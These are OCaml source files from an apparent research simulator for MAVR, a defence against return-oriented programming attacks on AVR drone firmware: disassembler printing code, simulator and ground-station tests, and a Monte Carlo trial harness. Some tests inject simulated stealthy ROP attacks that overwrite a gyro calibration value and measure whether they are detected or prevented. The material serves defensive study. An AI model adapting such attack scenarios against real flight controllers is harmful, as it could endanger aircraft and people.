  | Subi (d, k) -> Format.fprintf fmt "subi r%d, 0x%02X" d k
  | Sbci (d, k) -> Format.fprintf fmt "sbci r%d, 0x%02X" d k
  | Andi (d, k) -> Format.fprintf fmt "andi r%d, 0x%02X" d k
  | Ori (d, k) -> Format.fprintf fmt "ori r%d, 0x%02X" d k
  | Cpi (d, k) -> Format.fprintf fmt "cpi r%d, 0x%02X" d k
  | Com d -> Format.fprintf fmt "com r%d" d
  | Neg d -> Format.fprintf fmt "neg r%d" d
  | Inc d -> Format.fprintf fmt "inc r%d" d
  | Dec d -> Format.fprintf fmt "dec r%d" d
  | Lsr d -> Format.fprintf fmt "lsr r%d" d
  | Ror d -> Format.fprintf fmt "ror r%d" d
  | Asr d -> Format.fprintf fmt "asr r%d" d
  | Swap d -> Format.fprintf fmt "swap r%d" d
  | Push r -> Format.fprintf fmt "push r%d" r
  | Pop r -> Format.fprintf fmt "pop r%d" r
  | Ret -> Format.fprintf fmt "ret"
  | Reti -> Format.fprintf fmt "reti"
  | Icall -> Format.fprintf fmt "icall"
  | Ijmp -> Format.fprintf fmt "ijmp"
  | Call a -> Format.fprintf fmt "call 0x%x" (a * 2)
  | Jmp a -> Format.fprintf fmt "jmp 0x%x" (a * 2)
  | Rcall k -> Format.fprintf fmt "rcall .%+d" (k * 2)
  | Rjmp k -> Format.fprintf fmt "rjmp .%+d" (k * 2)
  | Brbs (b, k) -> Format.fprintf fmt "%s .%+d" (branch_mnemonic ~set:true b) (k * 2)
  | Brbc (b, k) -> Format.fprintf fmt "%s .%+d" (branch_mnemonic ~set:false b) (k * 2)
  | In (d, a) -> Format.fprintf fmt "in r%d, 0x%02x" d a
  | Out (a, r) -> Format.fprintf fmt "out 0x%02x, r%d" a r
  | Lds (d, a) -> Format.fprintf fmt "lds r%d, 0x%04x" d a
  | Sts (a, r) -> Format.fprintf fmt "sts 0x%04x, r%d" a r
  | Ldd (d, b, q) -> Format.fprintf fmt "ldd r%d, %s+%d" d (base_name b) q
  | Std (b, q, r) -> Format.fprintf fmt "std %s+%d, r%d" (base_name b) q r
  | Ld (d, p) -> Format.fprintf fmt "ld r%d, %a" d pp_ptr p
  | St (p, r) -> Format.fprintf fmt "st %a, r%d" pp_ptr p r
  | Adiw (d, k) -> Format.fprintf fmt "adiw r%d, 0x%02x" d k
  | Sbiw (d, k) -> Format.fprintf fmt "sbiw r%d, 0x%02x" d k
  | Lpm0 -> Format.fprintf fmt "lpm"
  | Lpm (d, inc) -> Format.fprintf fmt "lpm r%d, Z%s" d (if inc then "+" else "")
  | Sbi (a, b) -> Format.fprintf fmt "sbi 0x%02x, %d" a b
  | Cbi (a, b) -> Format.fprintf fmt "cbi 0x%02x, %d" a b
  | Sbic (a, b) -> Format.fprintf fmt "sbic 0x%02x, %d" a b
  | Sbis (a, b) -> Format.fprintf fmt "sbis 0x%02x, %d" a b
  | Bld (d, b) -> Format.fprintf fmt "bld r%d, %d" d b
  | Bst (d, b) -> Format.fprintf fmt "bst r%d, %d" d b
  | Sbrc (r, b) -> Format.fprintf fmt "sbrc r%d, %d" r b
  | Sbrs (r, b) -> Format.fprintf fmt "sbrs r%d, %d" r b
  | Elpm0 -> Format.fprintf fmt "elpm"
  | Elpm (d, inc) -> Format.fprintf fmt "elpm r%d, Z%s" d (if inc then "+" else "")
  | Bset 7 -> Format.fprintf fmt "sei"
  | Bclr 7 -> Format.fprintf fmt "cli"
  | Bset b -> Format.fprintf fmt "bset %d" b
  | Bclr b -> Format.fprintf fmt "bclr %d" b
  | Wdr -> Format.fprintf fmt "wdr"
  | Sleep -> Format.fprintf fmt "sleep"
  | Break -> Format.fprintf fmt "break"
  | Data w -> Format.fprintf fmt ".word 0x%04x" w

let to_string i = Format.asprintf "%a" pp i
