module Dynamics = Mavr_sim.Dynamics
module Gcs = Mavr_sim.Groundstation
module Sc = Mavr_sim.Scenario
module Rop = Mavr_core.Rop
module Frame = Mavr_mavlink.Frame

let image () = (Helpers.build_mavr ()).image

(* ---- dynamics ---- *)

let test_dynamics_progresses () =
  let s = ref Dynamics.initial in
  for _ = 1 to 1000 do
    s := Dynamics.step !s ~dt:0.01
  done;
  Alcotest.(check bool) "time advanced" true (!s.time_s > 9.9);
  Alcotest.(check bool) "bounded roll" true (Float.abs !s.roll < 0.5);
  Alcotest.(check bool) "altitude sane" true (!s.altitude_m > 50.0 && !s.altitude_m < 500.0)

let test_gyro_raw_encoding () =
  let s = { Dynamics.initial with roll_rate = 0.5 } in
  Alcotest.(check int) "positive rate" 500 (Dynamics.gyro_x_raw s);
  let s = { Dynamics.initial with roll_rate = -0.5 } in
  Alcotest.(check int) "negative rate two's complement" 0xFE0C (Dynamics.gyro_x_raw s);
  let s = { Dynamics.initial with roll_rate = 1000.0 } in
  Alcotest.(check int) "clamped" 32767 (Dynamics.gyro_x_raw s)

(* ---- sensor suite ---- *)

let test_sensors_deterministic () =
  let a = Mavr_sim.Sensors.create ~seed:9 () in
  let b = Mavr_sim.Sensors.create ~seed:9 () in
  let st = Dynamics.initial in
  for _ = 1 to 50 do
    Alcotest.(check bool) "same stream" true
      (Mavr_sim.Sensors.sample a st = Mavr_sim.Sensors.sample b st)
  done

let test_sensors_noise_bounded () =
  let s = Mavr_sim.Sensors.create ~gyro_noise:5.0 ~seed:4 () in
  let st = { Dynamics.initial with roll_rate = 0.25 } in
  for _ = 1 to 500 do
    let r = Mavr_sim.Sensors.sample s st in
    let signed = if r.gyro_x_raw >= 0x8000 then r.gyro_x_raw - 0x10000 else r.gyro_x_raw in
    (* truth 250 LSB, white noise <= 5, bias walk bounded by 5 *)
    if abs (signed - 250) > 11 then Alcotest.failf "gyro sample %d too far from 250" signed
  done

let test_sensors_baro_tracks_altitude () =
  let s = Mavr_sim.Sensors.create ~seed:4 () in
  let st = { Dynamics.initial with altitude_m = 150.0 } in
  let r = Mavr_sim.Sensors.sample s st in
  Alcotest.(check bool) "baro near 15000 cm" true (abs (r.baro_alt_cm - 15000) < 100)

let test_accel_reaches_gcs () =
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  Sc.run s ~ms:1500.0;
  match Gcs.last_accel_raw (Sc.gcs s) with
  | None -> Alcotest.fail "no accel telemetry"
  | Some raw ->
      let signed = if raw >= 0x8000 then raw - 0x10000 else raw in
      (* pitch ~0.02 rad -> ~20 LSB, noise/bias ~ +-16 *)
      Alcotest.(check bool) "accel plausible" true (abs signed < 80)

(* ---- ground station ---- *)

let hb_frame seq =
  Frame.encode
    { Frame.seq; sysid = 1; compid = 1; msgid = 0;
      payload = Mavr_mavlink.Messages.Heartbeat.encode
          { typ = 1; autopilot = 3; base_mode = 0; custom_mode = 0; system_status = 4 } }

let test_gcs_clean_stream_no_alarms () =
  let g = Gcs.create () in
  for i = 0 to 40 do
    Gcs.feed g ~now_ms:(float_of_int (i * 100)) (hb_frame (i land 0xFF));
    ignore (Gcs.check g ~now_ms:(float_of_int (i * 100)))
  done;
  Alcotest.(check bool) "no alarms" false (Gcs.attack_suspected g);
  Alcotest.(check int) "heartbeats" 41 (Gcs.heartbeats_received g)

let test_gcs_telemetry_silence_alarm () =
  let g = Gcs.create ~telemetry_timeout_ms:500.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  ignore (Gcs.check g ~now_ms:100.0);
  Alcotest.(check bool) "quiet at first" false (Gcs.attack_suspected g);
  ignore (Gcs.check g ~now_ms:800.0);
  Alcotest.(check bool) "silence alarm" true (Gcs.attack_suspected g);
  (* Edge-triggered: the episode raises one alarm, not one per check. *)
  ignore (Gcs.check g ~now_ms:900.0);
  ignore (Gcs.check g ~now_ms:1000.0);
  Alcotest.(check int) "latched" 1 (List.length (Gcs.alarms g))

let imu_frame seq =
  Frame.encode
    { Frame.seq; sysid = 1; compid = 1; msgid = 27;
      payload = Mavr_mavlink.Messages.Raw_imu.encode
          { time_usec = 1; xacc = 0; yacc = 0; zacc = 0; xgyro = 0; ygyro = 0;
            zgyro = 0; xmag = 0; ymag = 0; zmag = 0 } }

let test_gcs_silence_exact_timeout_edge () =
  (* The contract is strictly-greater-than: silence of exactly the
     timeout is still on time; one millisecond past it alarms. *)
  let g = Gcs.create ~telemetry_timeout_ms:500.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  Alcotest.(check int) "at the edge: no alarm" 0
    (List.length (Gcs.check g ~now_ms:500.0));
  Alcotest.(check (list string)) "past the edge: one alarm" [ "telemetry_silence" ]
    (List.map Gcs.alarm_key (Gcs.check g ~now_ms:501.0))

let test_gcs_heartbeat_exact_timeout_edge () =
  let g = Gcs.create ~heartbeat_timeout_ms:1000.0 ~telemetry_timeout_ms:10_000.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  (* Non-heartbeat traffic keeps the telemetry stream alive, isolating
     the heartbeat clock. *)
  Gcs.feed g ~now_ms:900.0 (imu_frame 1);
  Alcotest.(check int) "at the edge: no alarm" 0 (List.length (Gcs.check g ~now_ms:1000.0));
  Gcs.feed g ~now_ms:1001.0 (imu_frame 2);
  Alcotest.(check (list string)) "past the edge: heartbeat lost" [ "heartbeat_lost" ]
    (List.map Gcs.alarm_key (Gcs.check g ~now_ms:1001.0))

let test_gcs_duplicate_alarm_suppression () =
  (* One alarm per episode: repeated checks inside the same silence must
     not stack alarms, and a recovered-then-silent-again stream starts a
     new episode. *)
  let g = Gcs.create ~heartbeat_timeout_ms:1000.0 ~telemetry_timeout_ms:10_000.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  let seq = ref 0 in
  let imu_at t =
    incr seq;
    Gcs.feed g ~now_ms:t (imu_frame (!seq land 0xFF))
  in
  (* Heartbeats go silent; IMU traffic continues. *)
  let alarms = ref 0 in
  for t = 1 to 30 do
    let now = float_of_int (t * 100) in
    imu_at now;
    alarms := !alarms + List.length (Gcs.check g ~now_ms:now)
  done;
  Alcotest.(check int) "episode raises exactly one alarm" 1 !alarms;
  (* Heartbeat resumes (continuing the sequence, so no reboot alarm):
     the latch re-arms... *)
  incr seq;
  Gcs.feed g ~now_ms:3050.0 (hb_frame (!seq land 0xFF));
  Alcotest.(check int) "recovered: no alarm" 0 (List.length (Gcs.check g ~now_ms:3100.0));
  (* ...and a second silence episode raises exactly one more. *)
  for t = 32 to 60 do
    let now = float_of_int (t * 100) in
    imu_at now;
    alarms := !alarms + List.length (Gcs.check g ~now_ms:now)
  done;
  Alcotest.(check int) "second episode, second alarm" 2 !alarms;
  Alcotest.(check int) "retained history matches" 2 (List.length (Gcs.alarms g))

let test_gcs_heartbeat_lost_while_telemetry_flows () =
  (* Regression: the heartbeat-lost check used to live in the [else] of
     the telemetry-silence branch, so it could only fire when telemetry
     was healthy AND the silence latch was clear.  Heartbeats stopping
     while IMU traffic keeps flowing is exactly the partial-failure the
     nested check handled by accident — pin it down explicitly. *)
  let g = Gcs.create ~heartbeat_timeout_ms:1000.0 ~telemetry_timeout_ms:5000.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  let keys = ref [] in
  for t = 1 to 25 do
    let now = float_of_int (t * 100) in
    Gcs.feed g ~now_ms:now (imu_frame (t land 0xFF));
    keys := !keys @ List.map Gcs.alarm_key (Gcs.check g ~now_ms:now)
  done;
  Alcotest.(check (list string)) "only the heartbeat alarm, exactly once"
    [ "heartbeat_lost" ] !keys

let test_gcs_both_silent_raises_both_alarms () =
  (* Regression for the same nesting bug from the other side: once the
     telemetry-silence episode latches, the heartbeat clock must keep
     running — a fully dead link owes the operator BOTH alarms. *)
  let g = Gcs.create ~heartbeat_timeout_ms:3000.0 ~telemetry_timeout_ms:1000.0 () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  Alcotest.(check (list string)) "silence fires first" [ "telemetry_silence" ]
    (List.map Gcs.alarm_key (Gcs.check g ~now_ms:1500.0));
  (* Pre-fix, the latched silence episode starved this check forever. *)
  Alcotest.(check (list string)) "heartbeat loss still surfaces" [ "heartbeat_lost" ]
    (List.map Gcs.alarm_key (Gcs.check g ~now_ms:3500.0));
  Alcotest.(check int) "both retained" 2 (List.length (Gcs.alarms g))

let test_gcs_corruption_alarm () =
  let g = Gcs.create () in
  Gcs.feed g ~now_ms:0.0 (hb_frame 0);
  Gcs.feed g ~now_ms:10.0 "\x12\x34garbage bytes\x56";
  Gcs.feed g ~now_ms:20.0 (hb_frame 1);
  ignore (Gcs.check g ~now_ms:30.0);
  Alcotest.(check bool) "corruption alarm" true
    (List.exists (function Gcs.Link_corruption _ -> true | _ -> false) (Gcs.alarms g))

let test_gcs_reboot_detection () =
  let g = Gcs.create () in
  for i = 0 to 30 do
    Gcs.feed g ~now_ms:(float_of_int i) (hb_frame i)
  done;
  (* Sequence jumps back to 0: the transmitter rebooted. *)
  Gcs.feed g ~now_ms:40.0 (hb_frame 1);
  Alcotest.(check bool) "reboot alarm" true
    (List.exists (function Gcs.Unexpected_reboot _ -> true | _ -> false) (Gcs.alarms g))

let test_gcs_noise_corruption_without_reboot_alarm () =
  (* Severe radio noise over an honest transmitter: the GCS must flag
     link corruption, but must NOT read corrupted sequence numbers as an
     unexpected reboot — CRC rejection keeps damaged frames out of the
     sequence tracker, so only genuine resets can trip that alarm. *)
  let module Channel = Mavr_fault.Channel in
  let severe =
    {
      Channel.bit_flip_ppm = 10_000;
      drop_ppm = 5_000;
      dup_ppm = 2_000;
      burst_ppm = 100_000;
      burst_len_max = 16;
      jitter_max_ticks = 0;
    }
  in
  let ch = Channel.create ~rng:(Mavr_prng.Splitmix.create ~seed:3) severe in
  let g = Gcs.create () in
  for i = 0 to 400 do
    let now = float_of_int (i * 50) in
    let wire = if i mod 4 = 0 then hb_frame (i land 0xFF) else imu_frame (i land 0xFF) in
    Gcs.feed g ~now_ms:now (Channel.corrupt ch wire);
    ignore (Gcs.check g ~now_ms:now)
  done;
  let alarms = Gcs.alarms g in
  Alcotest.(check bool) "corruption flagged" true
    (List.exists (function Gcs.Link_corruption _ -> true | _ -> false) alarms);
  Alcotest.(check bool) "no phantom reboot" false
    (List.exists (function Gcs.Unexpected_reboot _ -> true | _ -> false) alarms);
  Alcotest.(check bool) "most frames still got through" true (Gcs.frames_received g > 200)

let test_gcs_tracks_gyro () =
  let g = Gcs.create () in
  let imu =
    Frame.encode
      { Frame.seq = 0; sysid = 1; compid = 1; msgid = 27;
        payload = Mavr_mavlink.Messages.Raw_imu.encode
            { time_usec = 1; xacc = 0; yacc = 0; zacc = 0; xgyro = 0x1234; ygyro = 0;
              zgyro = 0; xmag = 0; ymag = 0; zmag = 0 } }
  in
  Gcs.feed g ~now_ms:1.0 imu;
  Alcotest.(check (option int)) "gyro tracked" (Some 0x1234) (Gcs.last_gyro_raw g)

(* ---- closed-loop scenarios ---- *)

let test_baseline_flight () =
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  Sc.run s ~ms:2000.0;
  let r = Sc.report s in
  Alcotest.(check bool) "frames flowed" true (r.gcs_frames > 100);
  Alcotest.(check int) "no alarms" 0 (List.length r.gcs_alarms);
  Alcotest.(check bool) "app alive" true (not r.app_halted)

let test_gyro_truth_reaches_gcs () =
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  Sc.run s ~ms:1500.0;
  match Gcs.last_gyro_raw (Sc.gcs s) with
  | None -> Alcotest.fail "no gyro telemetry"
  | Some raw ->
      (* The reported value must equal a plausible physical rate (the
         dynamics' roll rate is within ±0.5 rad/s => ±500 raw). *)
      let signed = if raw >= 0x8000 then raw - 0x10000 else raw in
      Alcotest.(check bool) "physically plausible" true (abs signed <= 500)

let test_stealthy_attack_invisible_to_gcs () =
  let b, ti, obs = Helpers.attack_target () in
  ignore b;
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  Sc.run s ~ms:400.0;
  Sc.inject s
    (Rop.v2_stealthy ti obs
       ~writes:[ Rop.write_u16 obs ~addr:Mavr_firmware.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  Sc.run s ~ms:2000.0;
  let r = Sc.report s in
  Alcotest.(check int) "GCS saw nothing" 0 (List.length r.gcs_alarms);
  Alcotest.(check bool) "app alive" true (not r.app_halted);
  (* ... yet the sensor stream is now attacker-biased. *)
  match Gcs.last_gyro_raw (Sc.gcs s) with
  | Some raw ->
      Alcotest.(check bool) "gyro biased by ~0x4000" true (abs (raw - 0x4000) < 1000)
  | None -> Alcotest.fail "no gyro telemetry"

let test_v1_attack_visible_to_gcs () =
  let b, ti, obs = Helpers.attack_target () in
  ignore b;
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  Sc.run s ~ms:400.0;
  Sc.inject s
    (Rop.v1_basic ti obs
       ~writes:[ Rop.write_u16 obs ~addr:Mavr_firmware.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  Sc.run s ~ms:3000.0;
  let r = Sc.report s in
  Alcotest.(check bool) "app crashed" true r.app_halted;
  Alcotest.(check bool) "GCS noticed" true (List.length r.gcs_alarms > 0)

let test_mavr_recovers_in_flight () =
  let b, ti, obs = Helpers.attack_target () in
  ignore b;
  let config = { Mavr_core.Master.default_config with watchdog_window_cycles = 20_000 } in
  let s = Sc.create ~image:(image ()) (Sc.Mavr config) in
  Sc.run s ~ms:400.0;
  ignore obs;
  (* A failed guess whose return address leaves flash: the deterministic
     failure mode the paper's watchdog argument assumes. *)
  Sc.inject s (Rop.crash_probe ti);
  Sc.run s ~ms:4000.0;
  let r = Sc.report s in
  Alcotest.(check bool) "master detected the failed attack" true (r.master_detections >= 1);
  Alcotest.(check bool) "app recovered" true (not r.app_halted);
  Alcotest.(check bool) "reflashed at least twice (boot + recovery)" true (r.reflashes >= 2)

let test_scenario_telemetry () =
  (* The full instrumented rig: a defended flight hit by a crash probe
     must leave the story in the registry (app fault counters, master
     detections, GCS counters) and on the shared flight-recorder ring
     (the master's flash-session span and the attack-detected event). *)
  let _b, ti, _obs = Helpers.attack_target () in
  let config = { Mavr_core.Master.default_config with watchdog_window_cycles = 20_000 } in
  let s = Sc.create ~image:(image ()) (Sc.Mavr config) in
  let registry = Mavr_telemetry.Metrics.create () in
  let probes = Sc.attach_telemetry s ~registry in
  Sc.run s ~ms:400.0;
  Sc.inject s (Rop.crash_probe ti);
  Sc.run s ~ms:3000.0;
  let snap = Mavr_telemetry.Metrics.snapshot registry in
  let get name =
    match List.assoc_opt name snap with
    | Some (Mavr_telemetry.Metrics.Counter_value n)
    | Some (Mavr_telemetry.Metrics.Gauge_value n) ->
        n
    | _ -> Alcotest.failf "metric %s missing" name
  in
  Alcotest.(check int) "ticks counted" 3400 (get "sim.ticks");
  Alcotest.(check bool) "instructions counted" true (get "app.insn.total" > 0);
  Alcotest.(check bool) "fault recorded" true (get "app.halt.wild_pc" >= 1);
  Alcotest.(check bool) "master saw the attack" true (get "master.attacks_detected" >= 1);
  Alcotest.(check bool) "gcs frames exported" true (get "gcs.frames" > 0);
  Alcotest.(check bool) "probes retained" true
    (match Sc.probes s with Some p -> p == probes | None -> false);
  Alcotest.(check int) "faults seen by bundle" (get "app.halt.wild_pc")
    (Mavr_avr.Probes.faults_seen probes);
  (* The dump was captured the instant the probe faulted, even though the
     master then recovered the CPU and execution continued. *)
  Alcotest.(check bool) "fault dump captured" true (Mavr_avr.Probes.last_fault_dump probes <> None);
  (* The recovery flash session landed in the Table II phase histograms
     (the boot flash predates attach and is rightly absent). *)
  match List.assoc_opt "master.flash.total_us" snap with
  | Some (Mavr_telemetry.Metrics.Histogram_value h) ->
      Alcotest.(check bool) "recovery session timed" true (h.Mavr_telemetry.Metrics.count >= 1)
  | _ -> Alcotest.fail "master flash histogram missing"

let test_recovery_tick_still_delivers_telemetry () =
  (* Regression: the tick used to run the master's watchdog BEFORE
     draining the app's UART — a recovery reflash resets the CPU and
     clears TX, so every byte the app transmitted during the tick it
     died in was silently destroyed.  Pin the order: the GCS must
     receive the dying tick's telemetry AND the reflash must happen. *)
  let config = { Mavr_core.Master.default_config with watchdog_window_cycles = 20_000 } in
  let s = Sc.create ~image:(image ()) (Sc.Mavr config) in
  Sc.run s ~ms:400.0;
  (* Fill the TX buffer outside the tick loop, then kill the CPU: the
     next tick holds both pending telemetry and a recovery. *)
  ignore (Mavr_avr.Cpu.run_until_halt (Sc.app s) ~max_cycles:200_000);
  Mavr_avr.Cpu.force_halt (Sc.app s) (Mavr_avr.Cpu.Wild_pc 0);
  let frames_before = Gcs.frames_received (Sc.gcs s) in
  let reflashes_before = (Sc.report s).reflashes in
  Sc.run s ~ms:1.0;
  let r = Sc.report s in
  Alcotest.(check int) "master recovered in that tick" (reflashes_before + 1) r.reflashes;
  Alcotest.(check bool) "the dying tick's telemetry reached the GCS" true
    (Gcs.frames_received (Sc.gcs s) > frames_before)

let test_uplink_queue_preserves_order () =
  (* Regression companion for the O(n^2) uplink-append fix: batches
     queued across multiple [inject] calls must still be delivered one
     per tick, in injection order (asserted via the recorder's
     [sim.uplink_delivered] events, whose value is the chunk length). *)
  let s = Sc.create ~image:(image ()) Sc.No_defense in
  let registry = Mavr_telemetry.Metrics.create () in
  (* The ring also carries the per-instruction trace; size it so the
     milestone events survive a few ticks of execution. *)
  let probes = Sc.attach_telemetry ~recorder_capacity:20_000 s ~registry in
  Sc.run s ~ms:5.0;
  Sc.inject s [ "aa" ];
  Sc.inject s [ "bbb"; "cccc" ];
  Sc.run s ~ms:5.0;
  let delivered =
    List.filter_map
      (fun (e : Mavr_telemetry.Recorder.event) ->
        if e.name = "sim.uplink_delivered" then Some e.value else None)
      (Mavr_avr.Probes.flight_record probes)
  in
  Alcotest.(check (list int)) "one chunk per tick, injection order" [ 2; 3; 4 ] delivered

let test_mavr_prevents_takeover () =
  let b, ti, obs = Helpers.attack_target () in
  ignore b;
  let s = Sc.create ~image:(image ()) (Sc.Mavr Mavr_core.Master.default_config) in
  Sc.run s ~ms:400.0;
  Sc.inject s
    (Rop.v2_stealthy ti obs
       ~writes:[ Rop.write_u16 obs ~addr:Mavr_firmware.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  Sc.run s ~ms:3000.0;
  let cfg =
    Mavr_avr.Cpu.data_peek (Sc.app s) Mavr_firmware.Layout.gyro_cfg
    lor (Mavr_avr.Cpu.data_peek (Sc.app s) (Mavr_firmware.Layout.gyro_cfg + 1) lsl 8)
  in
  Alcotest.(check bool) "takeover prevented" false (cfg = 0x4000)

let () =
  Alcotest.run "sim"
    [
      ( "dynamics",
        [
          Alcotest.test_case "progresses" `Quick test_dynamics_progresses;
          Alcotest.test_case "gyro raw encoding" `Quick test_gyro_raw_encoding;
        ] );
      ( "sensors",
        [
          Alcotest.test_case "deterministic" `Quick test_sensors_deterministic;
          Alcotest.test_case "noise bounded" `Quick test_sensors_noise_bounded;
          Alcotest.test_case "baro tracks altitude" `Quick test_sensors_baro_tracks_altitude;
          Alcotest.test_case "accel reaches GCS" `Quick test_accel_reaches_gcs;
        ] );
      ( "groundstation",
        [
          Alcotest.test_case "clean stream" `Quick test_gcs_clean_stream_no_alarms;
          Alcotest.test_case "silence alarm" `Quick test_gcs_telemetry_silence_alarm;
          Alcotest.test_case "silence exact edge" `Quick test_gcs_silence_exact_timeout_edge;
          Alcotest.test_case "heartbeat exact edge" `Quick test_gcs_heartbeat_exact_timeout_edge;
          Alcotest.test_case "duplicate suppression" `Quick test_gcs_duplicate_alarm_suppression;
          Alcotest.test_case "heartbeat lost, telemetry flowing" `Quick
            test_gcs_heartbeat_lost_while_telemetry_flows;
          Alcotest.test_case "both silent, both alarms" `Quick
            test_gcs_both_silent_raises_both_alarms;
          Alcotest.test_case "corruption alarm" `Quick test_gcs_corruption_alarm;
          Alcotest.test_case "reboot detection" `Quick test_gcs_reboot_detection;
          Alcotest.test_case "noise: corruption, not reboot" `Quick
            test_gcs_noise_corruption_without_reboot_alarm;
          Alcotest.test_case "gyro tracking" `Quick test_gcs_tracks_gyro;
        ] );
      ( "scenarios",
        [
          Alcotest.test_case "baseline flight" `Quick test_baseline_flight;
          Alcotest.test_case "gyro truth at GCS" `Quick test_gyro_truth_reaches_gcs;
          Alcotest.test_case "stealthy attack invisible" `Slow test_stealthy_attack_invisible_to_gcs;
          Alcotest.test_case "V1 attack visible" `Slow test_v1_attack_visible_to_gcs;
          Alcotest.test_case "MAVR recovers in flight" `Slow test_mavr_recovers_in_flight;
          Alcotest.test_case "recovery tick delivers telemetry" `Slow
            test_recovery_tick_still_delivers_telemetry;
          Alcotest.test_case "uplink queue order" `Quick test_uplink_queue_preserves_order;
          Alcotest.test_case "MAVR prevents takeover" `Slow test_mavr_prevents_takeover;
          Alcotest.test_case "scenario telemetry" `Slow test_scenario_telemetry;
        ] );
    ]
