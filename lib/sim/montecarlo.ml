module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module F = Mavr_firmware
module Rop = Mavr_core.Rop
module Randomize = Mavr_core.Randomize
module Master = Mavr_core.Master
module Metrics = Mavr_telemetry.Metrics
module Json = Mavr_telemetry.Json
module Splitmix = Mavr_prng.Splitmix
module Engine = Mavr_campaign.Engine
module Progress = Mavr_campaign.Progress
module Checkpoint = Mavr_campaign.Checkpoint
module Early_stop = Mavr_campaign.Early_stop
module Span = Mavr_telemetry.Span
module Fault = Mavr_fault

type defense = Undefended | Software_only | Mavr_defense
type attack = V1 | V2 | V3

let defenses = [| Undefended; Software_only; Mavr_defense |]
let attacks = [| V1; V2; V3 |]
let defense_name = function Undefended -> "undefended" | Software_only -> "software_only" | Mavr_defense -> "mavr"
let attack_name = function V1 -> "v1" | V2 -> "v2" | V3 -> "v3"

(* The value every attack tries to plant in the gyro calibration — the
   paper's §IV-C "continuous effect" target. *)
let hijack_value = 0x4141

type outcome = {
  takeover : bool;
  detected : bool;
  halted : bool;
  detect_ms : float option;  (** ms from injection to first detection *)
  gcs_alarm_count : int;
  master_detections : int;
}

type cell = {
  defense : defense;
  attack : attack;
  trials : int;
  skipped : int;
  takeovers : int;
  detections : int;
  halts : int;
  detect_n : int;
  detect_ms_sum : float;
  detect_ms_max : float;
}

(* Control flights: same posture, same faults, no attack.  Anything the
   pipeline flags here is a false alarm, so these rows are the
   denominator of the §VII-A detection claims under noise. *)
type control = {
  posture : defense;
  flights : int;
  skipped : int;
  alarmed : int;
  alarms_total : int;
  recoveries : int;
  crashed : int;
  first_alarm_n : int;
  first_alarm_ms_sum : float;
}

type level_result = {
  level : Fault.Profile.level;
  cells : cell array;  (** 9 cells, defense-major then attack order *)
  controls : control array;  (** one per defense, same order *)
}

type t = {
  seed : int;
  trials : int;
  ms : int;
  profile : string;  (** fault profile name *)
  levels : level_result array;  (** one per profile level; [0] is clean *)
  metrics : Metrics.registry;  (** all per-trial worker registries, merged *)
  early_stop : Early_stop.t option;
  trials_skipped : int;  (** total trials not run across all cells *)
}

(* ---- one trial ----------------------------------------------------- *)

let gyro_cfg cpu =
  Cpu.data_peek cpu F.Layout.gyro_cfg lor (Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8)

let detected_now s =
  (match Scenario.master s with Some m -> Master.attacks_detected m > 0 | None -> false)
  || Groundstation.attack_suspected (Scenario.gcs s)

let trial ?lanes ~image ~inject ~defense ~level ~ms ~rng () =
  (* [lanes] = (host lane, cycles lane): the host lane gets the
     boot/warmup/flight phase spans, the cycles lane receives the rig's
     flight-recorder window at the end (flash-session phases, inject and
     alarm events, cycle-stamped and fully deterministic).  Tracing must
     not perturb the trial: no draw from [rng] depends on it. *)
  let sp name f = match lanes with None -> f () | Some (hl, _) -> Span.span hl name f in
  (* The fault seed is drawn first, unconditionally, so the remaining
     stream (layout seed, master seed) is the same whether or not this
     level actually arms the injector. *)
  let fault_seed = Splitmix.next rng in
  let faults =
    if Fault.Profile.level_is_off level then None
    else Some (Fault.Injector.create ~seed:fault_seed level)
  in
  let registry = Metrics.create () in
  let s, probes =
    sp "boot" (fun () ->
        let image, kind =
          match defense with
          | Undefended -> (image, Scenario.No_defense)
          | Software_only ->
              (* §VIII-A: diversified once at flash time, no master watching. *)
              (Randomize.randomize ~seed:(Splitmix.next rng) image, Scenario.No_defense)
          | Mavr_defense ->
              ( image,
                Scenario.Mavr
                  {
                    Master.default_config with
                    watchdog_window_cycles = 20_000;
                    seed = Splitmix.next rng;
                  } )
        in
        let s = Scenario.create ?faults ~image kind in
        (s, Scenario.attach_telemetry s ~registry))
  in
  let warmup = max 1 (ms / 3) in
  sp "warmup" (fun () -> Scenario.run s ~ms:(float_of_int warmup));
  (match inject with
  | Some frames ->
      (match lanes with
      | Some (hl, _) ->
          Span.instant hl ~args:[ ("frames", Json.Int (List.length frames)) ] "inject"
      | None -> ());
      Scenario.inject s frames
  | None -> ());
  (* Advance in small slices so the first detection gets a timestamp
     (resolution = [step] simulated ms). *)
  let step = 5 in
  let detect_ms = ref None in
  sp "flight" (fun () ->
      let remaining = ref (max 1 (ms - warmup)) in
      while !remaining > 0 do
        let slice = min step !remaining in
        Scenario.run s ~ms:(float_of_int slice);
        remaining := !remaining - slice;
        if !detect_ms = None && detected_now s then
          detect_ms := Some (Scenario.now_ms s -. float_of_int warmup)
      done);
  (match (lanes, !detect_ms) with
  | Some (hl, _), Some dms -> Span.instant hl ~args:[ ("sim_ms", Json.Float dms) ] "detected"
  | _ -> ());
  (match lanes with
  | Some (_, cl) -> Span.of_recorder cl (Mavr_avr.Probes.flight_record probes)
  | None -> ());
  let outcome =
    {
      takeover = gyro_cfg (Scenario.app s) = hijack_value;
      detected = detected_now s;
      halted = Cpu.halted (Scenario.app s) <> None;
      detect_ms = !detect_ms;
      gcs_alarm_count = List.length (Groundstation.alarms (Scenario.gcs s));
      master_detections =
        (match Scenario.master s with Some m -> Master.attacks_detected m | None -> 0);
    }
  in
  (outcome, registry)

(* ---- checkpoint codec ------------------------------------------------ *)

